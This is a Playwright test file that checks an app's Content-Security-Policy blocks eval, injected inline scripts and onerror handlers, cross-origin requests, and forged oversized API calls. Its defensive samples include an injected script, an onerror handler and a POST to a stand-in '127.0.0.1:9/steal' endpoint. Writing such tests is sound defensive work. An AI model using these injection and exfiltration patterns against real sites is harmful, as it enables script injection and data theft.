import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import type { PreviewServer } from '../../src/main/preview/server';
import { useBrowserApp } from './harness';

/**
 * The renderer's Content-Security-Policy as the browser enforces it (the same policy the
 * Electron window sets): no eval, no injected inline script, no requests to other origins,
 * and a forged call from the page itself is validated like any other.
 */
let server: PreviewServer;
let page: Page;

useBrowserApp({}, async (app) => {
  ({ server, page } = app);
  await page.goto(server.url);
  await page.getByRole('heading', { name: 'No catalog yet' }).waitFor();
  // Page code as strings: it runs in the browser, where these tests' Node types do not apply.
  await page.evaluate(`document.addEventListener('securitypolicyviolation', (e) => (window.__violations ??= []).push(e.violatedDirective))`);
});

describe('content security policy in the browser', () => {
  it('is served with the page: wasm may compile, nothing may be evaluated from strings', async () => {
    // (Code run through the DevTools protocol is exempt from CSP, so eval is not tried from here;
    // the header is what the browser enforces on the app's own scripts.)
    const response = await page.request.get(server.url);
    const policy = response.headers()['content-security-policy'] ?? '';
    expect(policy).toContain("script-src 'self' 'wasm-unsafe-eval'");
    expect(policy).not.toMatch(/'unsafe-eval'|'unsafe-inline'[^;]*script|script-src[^;]*'unsafe-inline'/);
  });

  it('does not run an injected inline script or an inline event handler', async () => {
    await page.evaluate(`{
      const s = document.createElement('script');
      s.textContent = 'window.__injected = 1';
      document.body.appendChild(s);
      const img = document.createElement('img');
      img.setAttribute('src', 'data:,x');
      img.setAttribute('onerror', 'window.__handler = 1');
      document.body.appendChild(img);
    }`);
    await page.waitForTimeout(200);
    expect(await page.evaluate('[window.__injected ?? null, window.__handler ?? null]')).toEqual([null, null]);
    expect(await page.evaluate('window.__violations ?? []')).toContain('script-src-elem');
  });

  it('does not let the page talk to another origin', async () => {
    const outcome = await page.evaluate(async () => {
      try {
        await fetch('http://127.0.0.1:9/steal', { method: 'POST', body: 'x' });
        return 'sent';
      } catch (e) {
        return (e as Error).name;
      }
    });
    expect(outcome).toBe('TypeError');
    expect(await page.evaluate('window.__violations ?? []')).toContain('connect-src');
  });

  it('validates a forged call made from the page like any other', async () => {
    const result = await page.evaluate(async () => {
      const r = await fetch('/api/trainModel', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ preset: 'x'.repeat(10_000) }) });
      return r.json();
    });
    expect(result).toMatchObject({ ok: false, error: { code: 'invalid-argument' } });
  });
});
